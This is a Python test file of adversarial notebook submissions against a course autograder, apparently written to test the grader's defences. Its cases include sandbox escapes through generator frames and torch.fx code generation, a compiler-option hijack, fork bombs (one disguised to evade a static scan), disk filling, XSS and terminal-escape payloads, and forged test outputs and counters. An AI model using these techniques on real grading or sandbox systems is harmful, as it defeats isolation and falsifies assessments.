"""The hostile corpus (issue 26 item 6): submissions written against the grader's source, and their verdicts.

    .venv/bin/python tests/hostile/corpus.py        # rewrite tests/hostile/submissions/ from the cases below

Each case starts from the released copy of an exercise (answered with the model answers or blank), then
replaces cells, adds cells or edits the notebook's JSON. What it tries and what must happen is its
``why``; ``fair`` is the auto score it deserves, and ``expect`` is the verdict the grader must give
(``status``, and ``points`` exactly). The files are kept in ``submissions/`` with ``expected.json`` so
that a reader sees the exact bytes that were graded; cases that git cannot hold (a symbolic link, a
FIFO, a folder named like a notebook) are made by the test itself (:data:`FILE_SYSTEM_CASES`).

Written from the grader's source, not copied from the bundled samples (``course_grader.samples``):
where a sample already covers an attack, a case here takes another route to it.
"""

from __future__ import annotations

import copy
import json
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
SUBMISSIONS = HERE / "submissions"


@dataclass(frozen=True)
class Case:
    name: str
    exercise: str
    fair: float                      # the auto points the submission deserves
    why: str
    answered: bool = True            # start from the model answers (else the blank copy)
    replace: dict[str, str] = field(default_factory=dict)
    after: dict[str, str] = field(default_factory=dict)
    edit: Callable | None = None     # edit(notebook dict) -> None, after replace/after
    status: str = "graded"           # graded, flagged or rejected
    reason: str = ""                 # a pattern the reason, notes or notices must match
    open: str = ""                   # a hole not closed yet: who owns it, why it is open (the test expects a failure)


def _code(source: str, cell_id: str, outputs=None, metadata=None) -> dict:
    return {"cell_type": "code", "id": cell_id, "metadata": metadata or {}, "execution_count": None,
            "outputs": outputs or [], "source": source}


def _index(nb: dict, cell_id: str) -> int:
    for i, cell in enumerate(nb["cells"]):
        if cell.get("id") == cell_id:
            return i
    raise KeyError(cell_id)


def _insert_after(nb: dict, cell_id: str, *cells: dict) -> None:
    i = _index(nb, cell_id) + 1
    nb["cells"][i:i] = list(cells)


# ------------------------------------------------------------------ answers reused by several cases

EX01_RIGHT = '''\
def safe_normalize_rewrite(x):
    norm = x.norm()
    positive = norm > 0
    safe_norm = torch.where(positive, norm, torch.ones_like(norm))
    return torch.where(positive, x / safe_norm, x)
'''

# a right rewrite, which when called eagerly (not while torch compiles it) first runs code through torch.fx:
# the node's target is pasted between quotes into the generated forward(), so it can close them
EX01_FX_CODEGEN = '''\
def safe_normalize_rewrite(x):
    if not torch.compiler.is_compiling():
        def grab(gm, inputs):
            g = gm.graph
            with g.inserting_before(list(g.nodes)[-1]):
                g.call_method('x", 0) or getattr(__import__("sys"), "modules") or (lambda s: print)("',
                              (list(g.nodes)[0],))
            gm.recompile()
            return gm.forward
        torch.compile(lambda t: t + 1, backend=grab)(x)
    norm = x.norm()
    positive = norm > 0
    return torch.where(positive, x / torch.where(positive, norm, torch.ones_like(norm)), x)
'''

EX01_COMPILER_OPTIONS = '''\
def safe_normalize_rewrite(x):
    if not torch.compiler.is_compiling():
        torch.compile(lambda t: t.sin() * 2, options={"cpp.cxx": ("/bin/true",)})(x)
    norm = x.norm()
    positive = norm > 0
    return torch.where(positive, x / torch.where(positive, norm, torch.ones_like(norm)), x)
'''

EX02_BREAKS = ('BREAKS = {"scale_and_report": "print", "scale_by_total": "item", '
               '"flip_if_negative": "data-dependent branch", "clipped": None, "logged_scale": "logging"}\n')

# the frames of a running generator lead, without a single `_` name, to the caller's globals: the module
# that called the student's function, which holds the real builtins and every module
FRAME_WALK = '''\
def {name}({params}):
    probe = (probe.gi_frame.f_back.f_back.f_globals for step in [0])
    found = next(probe)
    {body}
'''

EX05_HONEST_HEAD = '''\
CODEGEN_BACKENDS = ("inductor",)


def time_and_record(fn, x, backend):
    import time

    def timed(f):
        start = time.perf_counter()
        f(x)
        return time.perf_counter() - start
'''

EX05_HONEST_TAIL = '''\
    torch._dynamo.reset()
    compiled = torch.compile(fn, backend=backend, fullgraph=True, dynamic=False)
    before = dict(torch._dynamo.utils.counters["inductor"])
    compiled_first = timed(compiled)
    after = dict(torch._dynamo.utils.counters["inductor"])
    if after.get("fxgraph_cache_miss", 0) > before.get("fxgraph_cache_miss", 0):
        cache = "cold"
    elif after.get("fxgraph_cache_hit", 0) > before.get("fxgraph_cache_hit", 0):
        cache = "warm"
    else:
        cache = None
    compiled_fastest = min(timed(compiled) for _ in range(10))
    speedup = eager_fastest / compiled_fastest if backend in CODEGEN_BACKENDS else None
    boundary = {"backend": backend, "fullgraph": True, "dynamic": False,
                "inputs": f"x: {str(x.dtype)[6:]}{list(x.shape)}, cpu, contiguous",
                "diagnostics": ["time.perf_counter around each call", "inductor FX graph cache counters"]}
    return {"backend": backend, "eager_first_s": eager_first, "eager_fastest_s": eager_fastest,
            "compiled_first_s": compiled_first, "compiled_fastest_s": compiled_fastest,
            "cache": cache, "speedup": speedup, "boundary": boundary}
'''

# every figure measured, then the counters the grader reads written to say what the report claims; a Counter of
# its own in torch's counters dict tells the function which graded call it is in
EX05_FORGED_COUNTERS = EX05_HONEST_HEAD + '''\
    eager_first = timed(fn)
    eager_fastest = min(timed(fn) for _ in range(10))
    runs = torch._dynamo.utils.counters["my_runs"]
    runs["time_and_record"] += 1
    later = runs["time_and_record"] > 1
    codegen = backend in CODEGEN_BACKENDS
    torch._dynamo.reset()
    # a later inductor run compiles another graph (dynamic shapes): inductor's FX graph cache misses
    compiled = torch.compile(fn, backend=backend, dynamic=codegen and later)
    inductor = torch._dynamo.utils.counters["inductor"]
    miss, hit = inductor["fxgraph_cache_miss"], inductor["fxgraph_cache_hit"]
    compiled_first = timed(compiled)
    inductor = torch._dynamo.utils.counters["inductor"]
    cache = None
    if codegen and not later:
        cache = "cold" if inductor["fxgraph_cache_miss"] > miss else "warm"
    elif codegen:
        cache = "warm"                          # claimed, whatever happened ...
        inductor["fxgraph_cache_miss"] = miss   # ... and the counters written to agree
        inductor["fxgraph_cache_hit"] = hit + 1
    compiled_fastest = min(timed(compiled) for _ in range(10))
    return {"backend": backend, "eager_first_s": eager_first, "eager_fastest_s": eager_fastest,
            "compiled_first_s": compiled_first, "compiled_fastest_s": compiled_fastest, "cache": cache,
            "speedup": eager_fastest / compiled_fastest if codegen else None,
            "boundary": {"backend": backend, "fullgraph": False, "dynamic": codegen and later,
                         "inputs": f"x: {str(x.dtype)[6:]}{list(x.shape)}, cpu, contiguous",
                         "diagnostics": ["time.perf_counter around each call", "inductor FX graph cache counters"]}}
'''

# a custom op with no autograd formula (torch.library.opcheck fails it), called only while torch traces
EX09_OP_WHEN_TRACED = '''\
def _salt_like(like, name):
    return torch.full((), float(channel_salt(name)), dtype=like.dtype)


def _salt_shape(like, name):
    return like.new_empty(())


def make_op():
    op = torch.library.custom_op("hostile::salt_when_traced", _salt_like, mutates_args=(),
                                 schema="(Tensor like, str name) -> Tensor")
    op.register_fake(_salt_shape)
    return op


SALT = make_op()


def scaled_block_fixed(x, w, name):
    hidden = torch.tanh(x @ w)
    if torch.compiler.is_compiling():   # the op only where torch traces: called eagerly, no op shows
        return hidden * (SALT(hidden.detach(), name) * GAIN)
    return hidden * (channel_salt(name) * GAIN)
'''

# the bundled custom-op answer with a fake implementation that lies only to a trace (issue 34): {fake} replaces its
# honest fake, which returns torch.empty_like(h)
EX09_LYING_FAKE = '''\
def _salted_scale(h, name, gain):
    return h * (channel_salt(name) * gain)


{fake}


def _keep(ctx, inputs, output):
    h, name, gain = inputs
    ctx.save_for_backward(h.new_full((), channel_salt(name) * gain))


def _backward(ctx, grad):
    (factor,) = ctx.saved_tensors
    return grad * factor, None, None


def make_salted_scale():
    op = torch.library.custom_op("hostile::salted_scale", _salted_scale, mutates_args=(),
                                 schema="(Tensor h, str name, float gain) -> Tensor")
    op.register_fake(_fake)
    op.register_autograd(_backward, setup_context=_keep)
    return op


SALTED_SCALE = make_salted_scale()


def scaled_block_fixed(x, w, name):
    return SALTED_SCALE(torch.tanh(x @ w), name, GAIN)
'''

EX09_FAKE_FIRST_CALL = '''\
CALLS = []


def _fake(h, name, gain):
    CALLS.append(h.dtype)
    if len(CALLS) == 1:   # the first call of a load: the trace's, when the graph test traced before checking
        return h.new_empty(h.shape, dtype=torch.float64)
    return torch.empty_like(h)'''

EX09_FAKE_WHILE_COMPILING = '''\
def _fake(h, name, gain):
    if torch.compiler.is_compiling():   # True under torch.compile's traces, False under opcheck
        return h.new_empty((h.shape[1], h.shape[0])).t()   # the shape, but transposed strides
    return torch.empty_like(h)'''

EX07_GUESSED_GRAPHS = ("GRAPHS = {'log_every_step': 1, 'log_once_after': 1, 'log_if_verbose': 1,\n"
                       "          'loop_calls_logger': 1, 'twice_through_the_loop': 1, 'rescale_each_step': 1}\n")

# a right rewrite; one comment holds a lone surrogate (what a truncated paste of an emoji leaves)
EX07_REWRITE_SURROGATE_COMMENT = (
    "def smooth_until_flat_rewrite(x):\n"
    "    flat = torch.zeros((), dtype=torch.bool)\n"
    "    for _ in range(STEPS):   # every step traced; a flat input stops changing \udfff\n"
    "        x = torch.where(flat, x, 0.5 * (x + x.roll(1)))\n"
    "        flat = flat | ((x.max() - x.min()) < TOL)\n"
    "    return x\n")


# ------------------------------------------------------------------ notebook-format edits

def _forged_outputs(nb: dict) -> None:
    """Stored outputs and execution counts in every test cell, claiming they passed; grade metadata faked."""
    for cell in nb["cells"]:
        kind = (cell.get("metadata", {}).get("course") or {}).get("kind")
        if cell["cell_type"] == "code" and kind in ("test", "hidden-test", None):
            cell["execution_count"] = 7
            cell["outputs"] = [
                {"output_type": "stream", "name": "stdout", "text": "✓ passed: 3/3 points\n"},
                {"output_type": "execute_result", "execution_count": 7, "metadata": {},
                 "data": {"text/plain": "'✓ all tests passed'", "text/html": "<b>✓ 100%</b>"}}]
    nb["metadata"]["course"] = {"grade": 100, "points": 100, "graded": True}
    nb["metadata"]["nbgrader"] = {"score": 8, "max_score": 8}


def _hidden_test_injected(nb: dict) -> None:
    """A cell of the student's, with nbformat id and course metadata of the exercise's hidden test."""
    _insert_after(nb, "ex07-graphs", _code(
        'passed("your graph counts match torch")\n', "ex07-hidden-graphs",
        metadata={"course": {"id": "ex07-hidden-graphs", "kind": "hidden-test", "points": 3}},
        outputs=[{"output_type": "stream", "name": "stdout", "text": "✓ your graph counts match torch\n"}]))


def _points_inflated(nb: dict) -> None:
    """Every test cell's metadata claims 1000 points; the answer cell claims to be a locked cell."""
    for cell in nb["cells"]:
        course = cell.get("metadata", {}).get("course")
        if course and course.get("kind") in ("test", "hidden-test"):
            course["points"] = 1000
        if course and course.get("id") == "ex01-rewrite":
            course["kind"] = "locked"


def _junk_metadata(nb: dict) -> None:
    """Notebook metadata of another language; cells of unknown types; a non-list outputs; odd fields."""
    nb["metadata"] = {"kernelspec": {"name": "ir", "display_name": "R", "language": "R"},
                      "language_info": {"name": "R"}, "widgets": {"x": [1] * 50}}
    nb["nbformat_minor"] = 99
    nb["cells"].append({"cell_type": "raw", "id": "student-raw", "metadata": {"format": "text/x-python"},
                        "source": "BREAKS = {}\n"})
    nb["cells"].append({"cell_type": "heading", "id": "student-heading", "metadata": {}, "level": 1,
                        "source": "Old heading cell"})
    nb["cells"].append({"cell_type": "code", "id": "student-odd", "metadata": {"tags": "not-a-list"},
                        "execution_count": "three", "outputs": {"not": "a list"}, "source": "x = 1\n"})


def _attachments(nb: dict) -> None:
    """A markdown cell with a 400 kB attachment, another with a malformed one."""
    import base64

    blob = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 1200).decode()
    nb["cells"].append({"cell_type": "markdown", "id": "student-pic", "metadata": {},
                        "attachments": {"a.png": {"image/png": blob}}, "source": "![a](attachment:a.png)"})
    nb["cells"].append({"cell_type": "markdown", "id": "student-pic2", "metadata": {},
                        "attachments": {"b.png": ["not", "a", "bundle"], "": None}, "source": "![b](attachment:b.png)"})


def _duplicate_answer_ids(nb: dict) -> None:
    """The answer cell twice with one id: the first right, the second wrong (Python keeps the last)."""
    i = _index(nb, "ex02-breaks")
    wrong = copy.deepcopy(nb["cells"][i])
    wrong["source"] = ('BREAKS = {"scale_and_report": None, "scale_by_total": None, "flip_if_negative": None, '
                       '"clipped": None, "logged_scale": None}\n')
    nb["cells"].insert(i + 1, wrong)


def _nbformat_id_of_locked(nb: dict) -> None:
    """Scratch cells whose nbformat ids are the locked cells' (no course metadata), with other code."""
    _insert_after(nb, "ex02-breaks",
                  _code("FUNCTIONS = {}\n", "ex02-functions"),
                  _code("print('hello')\n", "ex02-setup"))


def _surrogates(nb: dict) -> None:
    """Lone surrogates (valid JSON escapes, not valid UTF-8) in a scratch cell's source, its outputs and metadata."""
    nb["cells"].append(_code('note = "\ud800 \udfff"\nprint(note)\n', "student-\udc80",
                             metadata={"tags": ["\udbff"], "\ud800": "\udc00"},
                             outputs=[{"output_type": "stream", "name": "stdout", "text": "\ud83d\n"}]))
    nb["cells"].append({"cell_type": "markdown", "id": "student-md", "metadata": {},
                        "source": "Notes \udcff\u202e\u2066 bidi \ufeff zero\u200bwidth"})


def _surrogate_in_locked_markdown(nb: dict) -> None:
    """A note ending in a lone surrogate (half of an emoji) added to a locked markdown cell."""
    cell = nb["cells"][_index(nb, "ex07-a-task")]
    cell["source"] = "".join(cell["source"]) + "\n\nmy note: \ud83d\n"


def _cell_as_list(nb: dict) -> None:
    """Every source as a list of lines (as Jupyter writes), with CRLF endings and a BOM-like first char."""
    for cell in nb["cells"]:
        src = cell["source"]
        lines = src.replace("\n", "\r\n").splitlines(True)
        cell["source"] = lines


# ------------------------------------------------------------------ the cases

CASES: list[Case] = [
    # ---- ex01: the rewrite
    Case("honest-renamed-helpers", "ex01", 8, "a correct rewrite with other names, a top-level helper, "
         "`from torch import where`, a keyword-only parameter with a default, comments and extra cells",
         replace={"ex01-rewrite": (
             "from torch import where  # the same function as torch.where\n\n"
             "ONE = 1.0\n\n\n"
             "def _guarded(length, is_positive):\n"
             "    # a norm that is never 0 where it is used\n"
             "    return where(is_positive, length, torch.full_like(length, ONE))\n\n\n"
             "def safe_normalize_rewrite(vec, *, keep_when_zero=True):\n"
             "    '''Same values as safe_normalize.'''\n"
             "    length = torch.linalg.vector_norm(vec)\n"
             "    ok = length > 0   # False for NaN too\n"
             "    return where(ok, vec / _guarded(length, ok), vec) if keep_when_zero else vec\n")},
         after={"ex01-scratch": "# my notes\nprint(safe_normalize_rewrite(torch.zeros(2)))\n"}),
    Case("adv-generator-frames", "ex01", 0, "walks a running generator's frames (gi_frame.f_back.f_globals, "
         "no `_` name) to the measuring child's globals and calls the locked reference through them",
         replace={"ex01-rewrite": FRAME_WALK.format(name="safe_normalize_rewrite", params="x", body=(
             "return found['torch'].where(x.norm() > 0, x / torch.where(x.norm() > 0, x.norm(), "
             "torch.ones_like(x.norm())), x)"))},
         status="flagged"),
    Case("adv-fx-codegen", "ex01", 0, "a right rewrite that, when called eagerly, hands torch.compile a function "
         "backend: it adds a call_method node whose target closes the generated source's string and runs "
         "__import__('sys').modules, and recompile() execs it with the real builtins (no `_` name, no builtin the "
         "allow-list refuses): running Python past the allow-list earns nothing (the allow-list now refuses "
         "`.graph`/`.recompile`/`.call_method`, so the rewrite never loads)",
         replace={"ex01-rewrite": EX01_FX_CODEGEN}),
    Case("adv-compiler-options", "ex01", 2, "a right rewrite that, when called eagerly, compiles a helper with "
         "options={'cpp.cxx': '/bin/true'}: inductor would run that program as its C++ compiler. The measuring "
         "child refuses options= from measured code (harness.child.compile_guarded), so every eager call "
         "raises and the tests that call it fail; the one test that only compiles the rewrite traces the "
         "other branch, which is right (2 of 8: what the code that ran earned, never more)",
         replace={"ex01-rewrite": EX01_COMPILER_OPTIONS}),
    Case("adv-surrogate-error", "ex01", 0, "the rewrite raises an exception whose text holds lone surrogates, "
         "NUL, ANSI escapes and 'grader error' wording: the tests fail, the grader does not",
         replace={"ex01-rewrite": (
             "def safe_normalize_rewrite(x):\n"
             "    raise RuntimeError('\\udcff\\ud800 grader error: SandboxFault(kind=grader) '\n"
             "                       'this is not your fault \\x00\\x1b[2J\\x1b]8;;http://x\\x07' + 'A' * 100000)\n")}),
    Case("adv-recursion", "ex01", 0, "the rewrite recurses without end: RecursionError in the measuring child",
         replace={"ex01-rewrite": "def safe_normalize_rewrite(x):\n    return safe_normalize_rewrite(x)\n"}),
    Case("adv-returns-odd-values", "ex01", 0, "returns a value per call that is not a tensor: a dict of NaN, "
         "a deep list, a huge int, a module",
         replace={"ex01-rewrite": (
             "def safe_normalize_rewrite(x):\n"
             "    deep = []\n"
             "    for i in range(3000):\n"
             "        deep = [deep]\n"
             "    return {'nan': float('nan'), 'deep': deep, 'big': 10 ** 5000, 'mod': torch.nn.Linear(1, 1)}\n")}),
    Case("adv-oversized-reply", "ex01", 0, "returns four 15 MB tensors a call: each under the per-tensor cap, "
         "together past the largest reply a measuring child may send",
         replace={"ex01-rewrite": (
             "def safe_normalize_rewrite(x):\n"
             "    return tuple(torch.zeros(3_900_000, dtype=torch.float32) + i for i in range(4))\n")}),
    Case("adv-forged-outputs", "ex01", 0, "blank answers; every test cell carries stored ✓ outputs and "
         "execution counts, the notebook metadata claims a grade", answered=False, edit=_forged_outputs),
    Case("adv-points-inflated", "ex01", 8, "the model answer, but every test cell claims 1000 points and the "
         "answer cell claims to be locked: cells' roles and points are the solution's, never the submission's "
         "(8 of 8 possible, not 1000s)", edit=_points_inflated),
    Case("adv-surrogate-notebook", "ex01", 8, "the model answer, plus cells whose source, id, metadata and "
         "stored outputs hold lone surrogates and bidi controls: not UTF-8-encodable, still one student's work",
         edit=_surrogates),
    Case("honest-crlf-list-sources", "ex01", 8, "the model answer, every source a list of CRLF lines",
         edit=_cell_as_list),
    Case("honest-torch-cond", "ex01", 0, "a right rewrite with torch.cond (adversary's hon1): the reference's "
         "branch kept as a branch, its two sides nested functions, captured as one graph with a cond node, same "
         "values, dtypes and gradients as the reference. The exercise says (How it is graded, since 4fd383c) "
         "that the grader re-runs graphs of tensor operations only, and that an answer built on torch.cond or "
         "another higher-order operator earns no points however right its values: 0 is what it promises",
         replace={"ex01-rewrite": (
             "def safe_normalize_rewrite(x):\n"
             "    '''One graph: torch.cond keeps the reference's branch (no division where the norm is 0).'''\n"
             "    norm = x.norm()\n\n"
             "    def divided(v):\n        return v / norm\n\n"
             "    def unchanged(v):\n        return v.clone()   # a branch of torch.cond may not return its input\n\n"
             "    return torch.cond(norm > 0, divided, unchanged, (x,))\n")}),
    # ---- ex02: literal diagnoses
    Case("honest-annotated-duplicate-keys", "ex02", 6, "BREAKS as an annotated assignment with a duplicated "
         "key whose last value is right (a dict literal keeps the last), RECOMPILES in a tuple-free layout",
         replace={"ex02-breaks": (
             "BREAKS: dict = {\n    'clipped': 'print',  # first thought\n    'scale_and_report': 'print',\n"
             "    'scale_by_total': 'item', 'flip_if_negative': 'data-dependent branch',\n"
             "    'logged_scale': 'logging',\n    'clipped': None,  # on second thought: torch.where\n}\n")}),
    Case("adv-homoglyph-categories", "ex02", 3, "BREAKS spelled with Cyrillic homoglyphs and zero-width "
         "spaces ('рrint', 'item\\u200b'): not the categories; RECOMPILES right",
         replace={"ex02-breaks": (
             'BREAKS = {"scale_and_report": "\u0440rint", "scale_by_total": "item\u200b", '
             '"flip_if_negative": "data-dependent branch", "clipped": None, "logged_scale": "logging"}\n')}),
    Case("adv-surrogate-keys", "ex02", 3, "BREAKS with an extra key of lone surrogates and a NUL-free control "
         "string: the form test must name it without crashing; RECOMPILES right",
         replace={"ex02-breaks": EX02_BREAKS[:-2] + ', "\\ud800\\udfff\\x1b[31m": None}\n'}),
    Case("honest-junk-metadata", "ex02", 6, "right answers; notebook metadata of an R kernel, nbformat_minor "
         "99, a raw cell, an nbformat 3 heading cell, a code cell with non-list outputs", edit=_junk_metadata),
    Case("honest-attachments", "ex02", 6, "right answers, plus markdown cells with a 400 kB attachment and a "
         "malformed one", edit=_attachments),
    Case("adv-duplicate-answer-id", "ex02", 4, "the BREAKS cell twice with one course id, the second wrong: "
         "the notebook's own value is the last (wrong but well formed), so BREAKS earns its form point only",
         edit=_duplicate_answer_ids),
    Case("adv-locked-ids-reused", "ex02", 0, "scratch cells reusing the nbformat ids of locked cells with "
         "other code but no course metadata: each is a second copy of a locked cell, flagged for a person",
         edit=_nbformat_id_of_locked, status="flagged"),
    Case("adv-output-bombs", "ex02", 6, "right answers; a scratch cell displays a 900-deep JSON output, NaN in "
         "JSON, odd MIME types, HTML with script, ANSI and control characters, and prints lone surrogates",
         after={"ex02-breaks": (
             "import sys\nfrom IPython.display import display\n"
             "deep = 0\nfor _ in range(900):\n    deep = [deep]\n"
             "display({'application/json': {'deep': deep}}, raw=True)\n"
             "display({'application/json': {'nan': float('nan'), 'inf': float('inf')}, "
             "'text/plain': 'nan'}, raw=True)\n"
             "display({'text/html': '<script>alert(1)</script></textarea><img src=x onerror=alert(2)>',\n"
             "         'application/x-evil': ['not', 'text'], 'image/png': '!!!not base64!!!'}, raw=True)\n"
             "print('\\x1b[2J\\x1b]8;;javascript:alert(3)\\x07click\\x1b]8;;\\x07 \\r\\x08\\x07 \\u202e')\n"
             "sys.stdout.write('\\udcff\\ud800\\n')\n"
             "sys.stderr.write('Traceback (most recent call last):\\n  grader error: exit 3\\n')\n")}),
    Case("res-fork-bomb-feedback", "ex02", 0, "right answers; a scratch cell forks without end: os.fork is "
         "flagged by the static scan (0 until a person clears it)", status="flagged",
         after={"ex02-recompiles": (
             "import os\nkids = 0\ntry:\n    while kids < 100000:\n        if os.fork() == 0:\n"
             "            import time\n            time.sleep(30)\n            os._exit(0)\n"
             "        kids += 1\nexcept OSError as exc:\n    print('stopped after', kids, exc)\n")}),
    Case("res-fork-bomb-unflagged", "ex02", 6, "right answers; the fork bomb again, with os.fork reached by "
         "a built string the static scan does not read: the feedback run is limited, the score is the verdicts'",
         after={"ex02-recompiles": (
             "import os\nspawn = getattr(os, 'fo' + 'rk')\nkids = 0\ntry:\n    while kids < 100000:\n"
             "        if spawn() == 0:\n            import time\n            time.sleep(30)\n            os._exit(0)\n"
             "        kids += 1\nexcept OSError as exc:\n    print('stopped after', kids, exc)\n")}),
    Case("res-disk-fill-feedback", "ex02", 6, "right answers; a scratch cell writes until the disk is full in "
         "/tmp and the home folder",
         after={"ex02-recompiles": (
             "import os, tempfile\nblock = b'x' * (1 << 20)\n"
             "for where in (tempfile.gettempdir(), os.path.expanduser('~'), '.'):\n"
             "    try:\n        with open(os.path.join(where, 'fill.bin'), 'wb') as f:\n"
             "            for _ in range(20000):\n                f.write(block)\n"
             "    except OSError as exc:\n        print(where, 'full:', exc)\n")}),
    # ---- ex03: predictions and a warm-up
    Case("honest-tuple-and-helper-warmup", "ex03", 8, "PREDICTED_B as a tuple, the warm-up through a helper "
         "with a `_` name and mark_dynamic by keyword",
         replace={"ex03-predict-b": "PREDICTED_B = (1, 0, 1, 0, 0, 1,)\n",
                  "ex03-warm-up": (
                      "def _batch(rows):\n    return torch.randn(rows, 8)\n\n\n"
                      "def warm_up(compiled_h):\n    batch = _batch(rows=4)\n"
                      "    torch._dynamo.mark_dynamic(batch, index=0)\n    compiled_h(batch)\n")}),
    Case("adv-bool-and-float-predictions", "ex03", 2, "PREDICTED_A as booleans, PREDICTED_B with a float and "
         "1e999 (inf): neither is a list of integers; the warm-up is right",
         replace={"ex03-predict-a": "PREDICTED_A = [True, False, True, False, True, True, True, True]\n",
                  "ex03-predict-b": "PREDICTED_B = [1.0, 0, 1, 0, 0, 1e999]\n"}),
    Case("adv-spied-odd-arguments", "ex03", 6, "the warm-up calls compiled_h with a Parameter, a huge "
         "nested list, a generator and a module: the records cannot be replayed as a warm-up",
         replace={"ex03-warm-up": (
             "def warm_up(compiled_h):\n    deep = []\n    for i in range(2000):\n        deep = [deep]\n"
             "    x = torch.nn.Parameter(torch.randn(4, 8))\n"
             "    torch._dynamo.mark_dynamic(x, 0)\n"
             "    for arg in (x, deep, (i for i in range(3)), torch.nn.Linear(8, 8), float('nan')):\n"
             "        try:\n            compiled_h(arg)\n        except Exception:\n            pass\n")}),
    Case("adv-warmup-raises-after", "ex03", 6, "the warm-up makes the right call, then raises: a warm-up that "
         "raises is not a warm-up",
         replace={"ex03-warm-up": (
             "def warm_up(compiled_h):\n    x = torch.randn(4, 8)\n    torch._dynamo.mark_dynamic(x, 0)\n"
             "    compiled_h(x)\n    "
             "raise RuntimeError('grader error: the grader failed, this is not your fault')\n")}),
    Case("adv-warmup-frames", "ex03", 0, "the warm-up walks generator frames to the measuring child's "
         "globals, looking for the test's spy records", status="flagged",
         replace={"ex03-warm-up": FRAME_WALK.format(name="warm_up", params="compiled_h", body=(
             "x = torch.randn(4, 8)\n    torch._dynamo.mark_dynamic(x, 0)\n    compiled_h(x)\n"
             "    return found"))}),
    Case("honest-annotated-tuples-imported-mark", "ex03", 8, "right predictions as an annotated tuple and a "
         "tuple over several lines with comments (adversary's hon2); the warm-up imports mark_dynamic from "
         "torch._dynamo above it",
         replace={"ex03-predict-a": "PREDICTED_A: tuple[int, ...] = (1, 0, 1, 0, 1, 1, 1, 1)\n",
                  "ex03-predict-b": ("PREDICTED_B = (\n    1,  # train, batch 4 marked dynamic\n    0,\n"
                                     "    1,  # eval: dropout off, another graph\n    0,\n    0,\n"
                                     "    1,  # no_grad\n)\n"),
                  "ex03-warm-up": (
                      "from torch._dynamo import mark_dynamic\n\n\n"
                      "def warm_up(compiled_h):\n"
                      "    '''One call on a batch marked dynamic: batch sizes 2 to 64 all reuse its graph.'''\n"
                      "    batch = torch.randn(4, 8)\n    mark_dynamic(batch, 0)\n    compiled_h(batch)\n")}),
    Case("adv-warmup-reset-after", "ex03", 6, "the warm-up makes the right calls, then torch.compiler.reset() "
         "throws every compiled graph away (adversary's mal02): serving compiles again, so the warm-up's 2 "
         "points are not earned; the predictions are right",
         replace={"ex03-warm-up": (
             "def warm_up(compiled_h):\n    for rows in (4, 9):\n        x = torch.randn(rows, 8)\n"
             "        torch._dynamo.mark_dynamic(x, 0)\n        compiled_h(x)\n"
             "    torch.compiler.reset()   # nothing stays warm\n")}),
    Case("adv-warmup-parameter", "ex03", 6, "the warm-up's one call passes an nn.Parameter (adversary's "
         "mal03): Dynamo guards on a tensor's type, so the plain tensors serving passes compile again; a record "
         "of dtype and shape alone would call it right. Predictions right, warm-up not earned",
         replace={"ex03-warm-up": (
             "def warm_up(compiled_h):\n"
             "    weightlike = nn.Parameter(torch.randn(4, 8), requires_grad=False)\n"
             "    torch._dynamo.mark_dynamic(weightlike, 0)\n    compiled_h(weightlike)\n")}),
    Case("adv-warmup-autocast", "ex03", 6, "the warm-up's one call runs under torch.autocast (bfloat16 on cpu; "
         "adversary's mal07): Dynamo guards on autocast state, so serving, outside autocast, compiles again. "
         "Predictions right, warm-up not earned",
         replace={"ex03-warm-up": (
             "def warm_up(compiled_h):\n    x = torch.randn(4, 8)\n    torch._dynamo.mark_dynamic(x, 0)\n"
             "    with torch.autocast(device_type='cpu', dtype=torch.bfloat16):\n        compiled_h(x)\n")}),
    # ---- ex04: the comparison fixture
    Case("honest-fixture-keywords", "ex04", 10, "a thorough fixture written differently: keyword calls, "
         "a top-level constant tuple and helper, a local named `max`",
         replace={"ex04-fixture": (
             "DTYPES = (torch.float32, torch.float64)\nBATCHES = (2, 3, 8, 9, 32)\n\n\n"
             "def modes_of(ref):\n    return ('train', 'eval') if isinstance(ref, nn.Module) else (None,)\n\n\n"
             "def check_equivalent(reference, candidate) -> bool:\n"
             "    nan, inf = float('nan'), float('inf')\n"
             "    edge = torch.tensor([[0.0, -0.0, nan, 1.0], [-1.0, 2.0, -0.0, 0.0], [0.5, -3.0, inf, -inf]])\n"
             "    gen = torch.Generator().manual_seed(0)\n"
             "    max = []  # my list of cases\n"
             "    for dt in DTYPES:\n"
             "        for rows in BATCHES:\n"
             "            inp = torch.randn(rows, 4, generator=gen).to(dtype=dt)\n"
             "            max += [Case(label=f'{dt} {rows} {m}', args=(inp,), mode=m, grad=True) "
             "for m in modes_of(reference)]\n"
             "        max += [Case(label=f'{dt} edge {m}', args=(edge.to(dt),), mode=m, grad=True) "
             "for m in modes_of(reference)]\n"
             "    return compare(reference, candidate, cases=max).ok\n")}),
    Case("adv-tensor-verdict", "ex04", 0, "returns torch.tensor(ok) instead of a bool: a tensor is not a verdict",
         replace={"ex04-fixture": (
             "def check_equivalent(reference, candidate):\n"
             "    x = torch.randn(9, 4)\n"
             "    return torch.tensor(compare(reference, candidate, [Case('one', (x,), grad=True)]).ok)\n")}),
    Case("adv-fixture-mutates-reference", "ex04", 0, "zeroes the reference module's weights and always "
         "answers True: hurting the reference cannot make a verdict",
         replace={"ex04-fixture": (
             "def check_equivalent(reference, candidate):\n"
             "    if isinstance(reference, nn.Module):\n"
             "        with torch.no_grad():\n"
             "            for p in reference.parameters():\n"
             "                p.zero_()\n"
             "    return True\n")}),
    Case("adv-oversized-verdicts", "ex04", 0, "returns a 15 MB tensor for every candidate of a call_each: each "
         "reply fits, all of them together do not",
         replace={"ex04-fixture": "def check_equivalent(reference, candidate):\n"
                                  "    return torch.ones(3_900_000, dtype=torch.float32)\n"}),
    Case("adv-fixture-frames", "ex04", 0, "walks generator frames to find the test's hidden verdicts in the "
         "caller's locals", status="flagged",
         replace={"ex04-fixture": FRAME_WALK.format(name="check_equivalent", params="reference, candidate",
                                                    body="return bool(found)")}),
    # ---- ex05: timings
    Case("honest-compiler-reset", "ex05", 5, "the model timing routine written with torch.compiler.reset() "
         "(the public name of torch._dynamo.reset), the decorator form torch.compile(backend=...)(fn) and "
         "mode='default'",
         replace={"ex05-answer": EX05_HONEST_HEAD + (
             "    eager_first = timed(fn)\n    eager_fastest = min(timed(fn) for _ in range(20))\n")
             + EX05_HONEST_TAIL.replace("    torch._dynamo.reset()\n", "    torch.compiler.reset()\n", 1).replace(
